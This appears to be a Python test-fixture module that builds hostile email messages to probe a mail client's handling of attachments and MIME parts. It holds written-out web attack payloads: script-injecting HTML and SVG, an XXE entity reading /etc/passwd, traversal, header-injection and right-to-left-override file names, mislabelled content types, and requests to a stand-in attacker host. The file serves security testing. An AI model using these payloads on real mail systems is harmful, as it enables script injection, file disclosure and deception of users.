"""Mails whose parts attack: by their names, their types, or when they are opened by themselves."""

from __future__ import annotations

from urllib.parse import quote

from .hostile_mails import EOL, Harm, HostileMail, head, joined, leaf, mail
from .payload import EVIL, script

HELLO = leaf("text/html; charset=utf-8", "<p>See the attached files.")


def _html(name: str) -> str:
    return f"<!doctype html><title>x</title><script>{script(name)}</script>"


def _svg(name: str) -> str:
    return f"""<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="9"
onload="{script(name)}"><image href="{EVIL}/svg/{name}.gif"/>
<script>{script(name)}</script></svg>"""


def _xml(name: str) -> str:
    """Its style sheet is itself, and makes a page of it."""
    return f"""<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?>
<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd"><!ATTLIST xsl:stylesheet id ID #REQUIRED>]>
<x><xsl:stylesheet id="s" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
<xsl:template match="/"><html xmlns="http://www.w3.org/1999/xhtml"><script>{script(name)}</script>
</html></xsl:template></xsl:stylesheet>
<h:script xmlns:h="http://www.w3.org/1999/xhtml">{script(name)}</h:script>&e;</x>"""


def _attached(content_type: str, body: str | bytes, filename: str = "file") -> bytes:
    return leaf(content_type, body, f'Content-Disposition: attachment; filename="{filename}"')


def _names(name: str) -> HostileMail:
    """No file may come down under these names, nor may a page or a header show them as they are."""
    tag = f"'\"><script>{script(name)}</script><img src=x: onerror={script(name)}>.html"
    names = [
        quote(tag),
        "../../../../etc/passwd",
        "..%5C..%5Cautoexec.bat",
        quote('a.txt"\r\nSet-Cookie: a=b\r\nContent-Type: text/html\r\n\r\n<script>'),
        quote("invoice\u202efdp.exe"),
        quote("x" * 3000 + ".pdf"),
        "",
        "con",
        "%00.html",
        ".htaccess",
        quote("a/b\\c:d*e?f|g"),
        "%",
        "%ff%fe",
    ]
    parts = (
        leaf("text/html", _html(name), f"Content-Disposition: attachment; filename*=utf-8''{one}")
        for one in names
    )
    return mail(name, "script", HELLO, *parts)


def _typed(name: str, harm: Harm, *content_types: str) -> HostileMail:
    """HTML that says it is something else."""
    files = (_attached(kind, _html(name), f"{n}.html") for n, kind in enumerate(content_types))
    return mail(name, harm, HELLO, *files)


def _references(name: str) -> HostileMail:
    """Parts that the body refers to, and that are not the images it pretends."""
    files = {
        "html": leaf("text/html", _html(name), "Content-ID: <html>"),
        "svg": leaf("image/svg+xml", _svg(name), "Content-ID: <svg>", "Content-Location: /a.svg"),
        "css": leaf("text/css", f"@import url({EVIL}/cid/{name}.css);", "Content-ID: <css>"),
        "js": leaf("text/javascript", script(name), "Content-ID: <js>"),
        "twice": leaf("text/html", _html(name), "Content-ID: <svg>"),
        "path": leaf("image/png", _html(name), "Content-ID: <../../../etc/passwd>"),
        "quote": leaf("image/png", "x", "Content-ID: <\"'><script>>"),
    }
    body = f"""<base href="{EVIL}/cid/"><iframe src="cid:html"></iframe><object data="cid:svg">
</object><img src="cid:svg"><img src="CID:html"><link rel=stylesheet href="cid:css">
<script src="cid:js"></script><embed src="cid:svg"><img src="cid:../../../etc/passwd">
<img src="cid:x&quot; onerror=&quot;{script(name)}"><p style="background:url(cid:svg)">
<a href="cid:html" target=_top>open</a><img src="{name}.gif"><svg><use href="cid:svg#a"/></svg>
<style>@import "cid:css"; p {{ background: url("cid:'}});@import url({EVIL}/cid/{name}.css)") }}
</style><iframe srcdoc="&lt;img src='cid:svg'>"></iframe>"""
    parts = (leaf("text/html; charset=utf-8", body), *files.values())
    return HostileMail(name, "request", head(name) + EOL + joined("related", *parts))


def _nested(name: str) -> HostileMail:
    """A mail in a mail in a mail; each has a body that attacks."""
    inner = head(name) + EOL + leaf("text/html", _html(name))
    for _ in range(5):
        message = leaf("message/rfc822", inner)
        inner = head(name) + EOL + joined("mixed", leaf("text/html", _html(name)), message)
    return HostileMail(name, "script", inner)


def _boundaries(name: str) -> HostileMail:
    """Where the parts begin depends on who reads."""
    line = 'Content-Type: multipart/mixed; boundary="a"; boundary=b; boundary*0="c"'
    body = (
        f"--a\r\n\r\nfirst\r\n--b\r\nContent-Type: text/html\r\n\r\n{_html(name)}\r\n--b--\r\n--a--"
    )
    return HostileMail(name, "old", head(name, line, line) + EOL * 2 + body.encode())


def _alternatives(name: str) -> HostileMail:
    """Several bodies, among them kinds that a page might show without knowing them."""
    kinds = ("text/html", "text/x-amp-html", "text/watch-html", "application/xhtml+xml")
    xhtml = f'<html xmlns="http://www.w3.org/1999/xhtml"><script>{script(name)}</script></html>'
    parts = [leaf(kind, xhtml) for kind in kinds]
    calendar = leaf("text/calendar; method=REQUEST", f"BEGIN:VCALENDAR\r\nURL:javascript:{name}")
    return HostileMail(name, "script", head(name) + EOL + joined("alternative", *parts, calendar))


def _deep(name: str) -> HostileMail:
    """A hundred multiparts, each in the one before."""
    inner = leaf("text/html", _html(name))
    for number in range(100):
        inner = joined("mixed", inner, boundary=f"b{number}-")
    return HostileMail(name, "script", head(name) + EOL + inner)


def _many(name: str) -> HostileMail:
    """Three hundred parts."""
    files = (_attached("text/plain", "x", f"{number}.txt") for number in range(300))
    return mail(name, "script", leaf("text/html", _html(name)), *files)


_FILES = (
    _names("file-names"),
    mail("file-html", "script", HELLO, _attached("text/html", _html("file-html"), "a.html")),
    mail("file-svg", "script", HELLO, _attached("image/svg+xml", _svg("file-svg"), "a.svg")),
    mail(
        "file-xml",
        "script",
        HELLO,
        *(_attached(kind, _xml("file-xml"), "a.xml") for kind in ("text/xml", "application/xml")),
    ),
    mail(
        "file-inline",
        "script",
        HELLO,
        leaf(
            "text/html; name=a.html",
            _html("file-inline"),
            "Content-Disposition: inline; filename=a.html",
        ),
    ),
    _typed(
        "file-typed",
        "old",
        "application/pdf",
        "image/png",
        "text/plain",
        "application/octet-stream",
    ),
    _typed(
        "file-parameters",
        "script",
        "text/html; charset=utf-7",
        "TEXT/HTML ; a=b",
        'text/html\t;charset="x',
        "text / html",
        "text/html,text/plain",
        "multipart/x-mixed-replace; boundary=x",
        'text/plain; charset="utf-8\\"; text/html"',
        "",
        "nonsense",
        "application/xhtml+xml",
        "application/x-shockwave-flash",
        "text/cache-manifest",
    ),
    mail(
        "file-worker",
        "old",
        HELLO,
        _attached(
            "text/javascript",
            "onfetch=e=>e.respondWith(new Response('x'));" + script("file-worker"),
            "sw.js",
        ),
    ),
    _references("part-references"),
    _nested("part-nested"),
    _boundaries("part-boundaries"),
    _alternatives("part-alternatives"),
    _deep("part-deep"),
    _many("part-many"),
)
FILES = tuple(mail._replace(views=("source", "tree", "attachments", "lint")) for mail in _FILES)
